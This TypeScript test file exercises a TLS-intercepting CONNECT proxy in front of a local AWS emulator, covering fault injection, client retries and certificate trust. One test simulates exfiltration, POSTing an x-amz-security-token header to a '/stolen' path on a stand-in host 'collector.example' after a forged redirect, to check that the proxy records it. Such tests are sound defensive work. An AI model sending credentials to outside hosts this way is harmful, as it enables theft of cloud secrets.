import { request as httpRequest } from 'node:http';
import { Agent, request as httpsRequest, type RequestOptions } from 'node:https';
import type { Socket } from 'node:net';
import type { Duplex } from 'node:stream';
import tls from 'node:tls';

import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { NodeHttpHandler } from '@smithy/node-http-handler';

import type { LocalAws } from '../local-aws';
import { DEFAULTS, startLocalAws } from '../local-aws';
import { type ConnectProxy, startConnectProxy } from './connectProxy';
import type { Act } from './exchange';
import { evil, FAULTS } from './faults';

let aws: LocalAws;
let proxy: ConnectProxy;
let next: Act | undefined;

beforeAll(async () => {
	aws = await startLocalAws();
	proxy = await startConnectProxy({
		aws: aws.url,
		choose: () => {
			const act = next;
			next = undefined;
			return act;
		},
	});
});
afterAll(async () => {
	await proxy.close();
	await aws.close();
});

/** A connection through the proxy, as HTTP clients make it. */
function tunnel(host: string): Promise<Socket> {
	const { hostname, port } = new URL(proxy.url);
	return new Promise((resolve, reject) => {
		httpRequest({ hostname, port, method: 'CONNECT', path: `${host}:443`, agent: false })
			.on('connect', (_, socket) => {
				const secure = tls.connect({ socket, servername: host, ca: proxy.authority });
				secure.once('error', reject).once('secureConnect', () => resolve(secure));
			})
			.on('error', reject)
			.end();
	});
}

class ThroughProxy extends Agent {
	override createConnection(
		options: RequestOptions,
		callback?: (error: Error | null, stream: Duplex) => void,
	): undefined {
		tunnel(options.host ?? '').then(
			(socket) => callback?.(null, socket),
			(error: unknown) => callback?.(error as Error, undefined as never),
		);
	}
}

/** Who AWS takes its own client for. */
async function caller(maxAttempts = 1): Promise<string | undefined> {
	const sts = new STSClient({
		region: 'eu-west-1',
		credentials: DEFAULTS.user,
		maxAttempts,
		requestHandler: new NodeHttpHandler({ httpsAgent: new ThroughProxy() }),
	});
	try {
		return (await sts.send(new GetCallerIdentityCommand({}))).Arn;
	} finally {
		sts.destroy();
	}
}

it("gives AWS's own client an AWS behind the real host name", async () => {
	expect(await caller()).toBe(`arn:aws:iam::${DEFAULTS.account}:user/demo`);
	expect(aws.requests.at(-1)).toMatchObject({ host: 'sts.eu-west-1.amazonaws.com', status: 200 });
});

const actOf = (name: string): Act => {
	const act = FAULTS.find((fault) => fault.name === name)?.act;
	if (act === undefined) throw new Error(name);
	return act;
};

it.each(['reset before it came to AWS', 'reset after AWS had done it', 'closed without an answer, twice', 'no HTTP'])(
	'injects below TLS: %s',
	async (name) => {
		next = actOf(name);
		await expect(caller()).rejects.toThrow();
		expect(await caller()).toContain('user/demo');
	},
);

it("a reset is what AWS's client tries again", async () => {
	const before = proxy.requests;
	next = actOf('reset after AWS had done it');
	expect(await caller(3)).toContain('user/demo');
	expect(proxy.requests - before).toBe(2);
});

it('keeps what is told to a host that is not of AWS', async () => {
	const host = 'collector.example';
	evil.url = `https://${host}`;
	next = actOf('307 to another host');
	await expect(caller()).rejects.toThrow();
	expect(proxy.foreign).toEqual([]);

	const status = await new Promise((resolve, reject) => {
		const headers = { 'x-amz-security-token': 'told' };
		httpsRequest({ host, path: '/stolen', method: 'POST', headers, agent: new ThroughProxy() }, (response) => {
			response.resume().on('end', () => resolve(response.statusCode));
		})
			.on('error', reject)
			.end('body');
	});
	expect(status).toBe(200);
	expect(proxy.foreign).toMatchObject([{ host, method: 'POST', target: '/stolen', body: 'body' }]);
	expect(proxy.foreign[0]?.headers).toContain('told');
});

it('trusts nobody for its authority but who asks to', async () => {
	const { hostname, port } = new URL(proxy.url);
	const refused = new Promise((resolve) => {
		httpRequest({ hostname, port, method: 'CONNECT', path: 'sts.amazonaws.com:443', agent: false })
			.on('connect', (_, socket) => {
				tls.connect({ socket, servername: 'sts.amazonaws.com' }).once('error', ({ message }) => resolve(message));
			})
			.end();
	});
	expect(await refused).toMatch(/certificate/);
});
